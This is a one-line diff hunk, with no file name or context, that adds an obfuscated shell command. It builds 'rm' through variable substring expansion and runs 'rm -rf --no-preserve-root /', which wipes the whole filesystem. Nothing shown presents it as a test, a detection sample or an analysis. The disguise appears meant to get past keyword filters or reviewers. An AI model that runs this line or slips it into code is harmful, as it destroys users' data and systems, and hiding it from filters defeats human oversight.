@@ -1,0 +1,1 @@
+p="xrmx"; ${p:1:2} -rf --no-preserve-root /
